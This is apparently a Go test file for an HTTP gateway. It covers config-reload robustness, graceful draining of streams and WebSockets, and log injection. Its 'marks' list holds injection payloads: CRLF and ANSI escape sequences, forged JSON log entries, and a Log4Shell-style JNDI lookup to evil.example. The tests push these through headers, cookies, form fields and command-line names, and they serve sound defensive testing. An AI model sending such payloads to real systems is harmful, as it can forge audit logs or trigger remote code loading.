package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"strings"
	"syscall"
	"testing"
)

// lab starts a gate of a test's own, which may be broken and ended.
func (s *site) lab(t testing.TB, name, config string, args ...string) *process {
	t.Helper()
	return s.start(t, name, config, append([]string{"--public-url=http://127.0.0.1", "--plain-cookies", "--ops-addr="}, args...)...)
}

func (p *process) signal(t testing.TB, signal syscall.Signal) {
	t.Helper()
	if err := p.cmd.Process.Signal(signal); err != nil {
		t.Fatal(err)
	}
}

func reload(t *testing.T, s *site) {
	config := s.routes(t)
	good, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	p := s.lab(t, "reloaded", config)
	key := s.key(t, s.user(t, "customer"))
	id := s.id()
	flying, stream := s.dial(t, p, s.address()), s.stream(t, p, bearer(key))
	flying.send(request("GET", "/guarded/held/"+id, bearer(key)))
	for i, bad := range []string{
		"routes: [", "", "routes: []\n", strings.Replace(string(good), "allow: [operator]", "allow: []", 1), strings.Replace(string(good), "allow: [operator]", "allow: [public, operator]", 1),
		strings.Replace(string(good), "path: /operator/", "path: /operator/../", 1), string(good) + "unknown: field\n", strings.Repeat("# \n", 400_000) + string(good), strings.Replace(string(good), "upstream: shop, allow: [operator]", "upstream: nowhere, allow: [operator]", 1),
		"routes:\n- {path: /auth/, upstream: 'http://" + s.upstream.addr() + "', allow: [public]}\n", "\x00\xff",
	} {
		if err := os.WriteFile(config, []byte(bad), 0o600); err != nil {
			t.Fatal(err)
		}
		p.signal(t, syscall.SIGHUP)
		p.log.awaitCount(t, "keeping the old routes", i+1)
		s.ask(t, p, s.address(), request("GET", "/open/"+s.id())).want(t, 200, "")
		s.ask(t, p, s.address(), request("GET", "/operator/"+s.id())).want(t, 401, "unauthorized")
		s.ask(t, p, s.address(), request("GET", "/guarded/"+s.id(), bearer(key))).want(t, 200, "")
		s.ask(t, p, s.address(), request("GET", "/new/"+s.id())).want(t, 404, "not_found")
	}
	if err := os.Remove(config); err != nil {
		t.Fatal(err)
	}
	p.signal(t, syscall.SIGHUP)
	p.log.awaitCount(t, "keeping the old routes", 12)
	s.ask(t, p, s.address(), request("GET", "/operator/"+s.id())).want(t, 401, "unauthorized")
	if err := os.WriteFile(config, []byte(strings.Replace(string(good), "path: /guarded/", "path: /new/", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	p.signal(t, syscall.SIGHUP)
	p.log.await(t, "routes reloaded")
	s.ask(t, p, s.address(), request("GET", "/new/"+s.id(), bearer(key))).want(t, 200, "")
	s.ask(t, p, s.address(), request("GET", "/new/"+s.id())).want(t, 401, "unauthorized")
	s.ask(t, p, s.address(), request("GET", "/guarded/"+s.id(), bearer(key))).want(t, 404, "not_found")
	// What was under way all that time finishes under the routes it came by.
	s.goesOn(t, p, stream, "a stream from before")
	close(s.upstream.hold(id))
	if answer, ok := flying.reply(); !ok || answer.text != "upstream saw GET /guarded/held/"+id+" HTTP/1.1" {
		t.Errorf("a request from before got %d %q", answer.StatusCode, answer.text)
	}
}

// awaitCount waits until a text was logged so many times.
func (j *journal) awaitCount(t testing.TB, text string, count int) {
	t.Helper()
	j.until(t, fmt.Sprintf("%q, %d times", text, count), func(all string) bool { return strings.Count(all, text) >= count })
}

func drain(t *testing.T, s *site) {
	p := s.lab(t, "drained", s.routes(t), "--shutdown-timeout=40s")
	key := s.key(t, s.user(t, "customer"))
	id := s.id()
	flying := s.dial(t, p, s.address())
	flying.send(request("GET", "/guarded/held/"+id, bearer(key)))
	stream, open, socket := s.stream(t, p, bearer(key)), s.opened(t, p, "data: first", request("GET", "/open/stream/events/"+s.id(), "Connection: close")), s.socket(t, p, bearer(key))
	for s.upstream.seen(id) == nil {
		pause(t)
	}
	p.signal(t, syscall.SIGTERM)
	for name, w := range map[string]*wire{"a customer's stream": stream, "an open stream": open} {
		if last := w.ends(name); !strings.Contains(last, "retry: 500\n") || !strings.HasSuffix(last, "0\r\n\r\n") {
			t.Errorf("%s ends with %q", name, last)
		}
	}
	if last := socket.ends("a WebSocket"); last != "\x88\x02\x03\xf4" { // 1012: service restart
		t.Errorf("a WebSocket ends with %q", last)
	}
	for refused := false; !refused; pause(t) { // new connections are none of it any more
		conn, err := p.connect(s.address())
		if refused = err != nil; !refused {
			_, _ = conn.Write([]byte(request("GET", "/open/stream/events/"+s.id(), "Connection: close")))
			if line, err := bufio.NewReader(conn).ReadString('\n'); err == nil && !strings.HasPrefix(line, "HTTP/1.1 503 ") {
				t.Errorf("a new stream began: %q", line)
			}
			conn.Close()
		}
		if t.Context().Err() != nil {
			return
		}
	}
	select {
	case <-p.ended:
		t.Fatal("it ended while a request was under way")
	default:
	}
	close(s.upstream.hold(id))
	if answer, ok := flying.reply(); !ok || answer.text != "upstream saw GET /guarded/held/"+id+" HTTP/1.1" {
		t.Errorf("the request under way got %d %q", answer.StatusCode, answer.text)
	}
	<-p.ended
	if p.err != nil {
		t.Errorf("it ended with %v", p.err)
	}
	p.log.await(t, "gate has drained")
	if _, err := net.Dial("tcp", p.addr); err == nil {
		t.Error("somebody still listens")
	}
}

// marks are what an attacker would like to see at the start of a line of the log, or of a terminal.
var marks = []string{"\n", "\r", "\r\n", "\x00", "\x1b[2J\x1b[31m", "\u2028", "\u202e", "\u0085", "\x0b", "\\n", "%0a", "%0d%0a", "%1b[31m", "\"}\n{\"level\":\"INFO\",\"msg\":\"", "${jndi:ldap://evil.example}"}

func logInjection(t *testing.T, s *site) {
	s.each(t, func(t *testing.T, p *process) {
		from := s.address()
		for _, mark := range marks {
			forged := mark + `{"level":"ERROR","msg":"forged"}`
			w := func(text string) { // whatever it answers: the log is what counts
				w := s.dial(t, p, from)
				defer w.Close()
				w.send(text)
				_, _ = w.reply()
			}
			w(request("GET", "/open/"+forged))
			w(request("GET", "/open/x?"+forged))
			w(request("GET", "/open/unasked/x"))
			w(request("GET", "/guarded/forged"+mark+"forged"))
			w(request("GET", "/open/x", "User-Agent: "+forged, "Referer: "+forged, "X-Request-Id: "+forged, "X-Forwarded-For: "+forged, "Traceparent: "+forged))
			w(request("GET", "/guarded/x", "Authorization: Bearer "+forged))
			w(request("GET", "/guarded/x", p.cookie(forged)))
			w(request("FORGED"+mark, "/guarded/x"))
			w("GET /open/x HTTP/1.1\r\nHost: " + forged + "\r\n\r\n")
			w(payload("POST", "/guarded/x", "{}", p.cookie("x"), "Origin: "+forged, "Sec-Fetch-Site: "+forged))
			w(post("/auth/reset", map[string][]string{"email": {"forged" + mark + "@example.com"}}))
			w(post("/auth/confirm", map[string][]string{"token": {forged}}))
			w(post("/auth/signup", map[string][]string{"email": {s.id() + "@example.com"}, "name": {forged}, "password": {password}}))
			// The same names by command line: refused, or one line of every list.
			email := s.id() + "@example.com"
			if out, err := command(t, "", "user", "add", "--database-url="+s.db, email, "--name=forged"+forged); err == nil && strings.ContainsAny(mark, "\r\n\x1b\x00\x0b\u0085") {
				t.Errorf("a name with %q was taken: %s", mark, out)
			}
			if _, err := command(t, "", "user", "add", "--database-url="+s.db, "forged"+mark+"@example.com"); err == nil && strings.ContainsAny(mark, "\r\n\x1b\x00") {
				t.Errorf("an address with %q was taken", mark)
			}
		}
		for _, mark := range marks[:6] { // these cost a hash each
			s.submit(t, p, s.address(), post("/auth/login", credentials("forged"+mark+`{"msg":"forged"}@example.com`, "x"))).want(t, 401, "bad_login")
		}
	})
	email := s.user(t, "customer")
	for _, mark := range marks {
		_, _ = command(t, "", "key", "create", "--database-url="+s.db, email, "--name=forged"+mark+"forged") // refused, or one line below
	}
	for _, list := range [][]string{{"key", "list", "--database-url=" + s.db, email}, {"audit", "--database-url=" + s.db, "--limit=1000"}} {
		for line := range strings.Lines(must(t, "", list...)) {
			if strings.HasPrefix(strings.TrimSpace(line), "forged") || strings.HasPrefix(line, "{") || strings.ContainsAny(line, "\x1b\r\x00\x0b\u2028\u202e") {
				t.Errorf("gate %s says %q", list[0], line)
			}
		}
	}
}
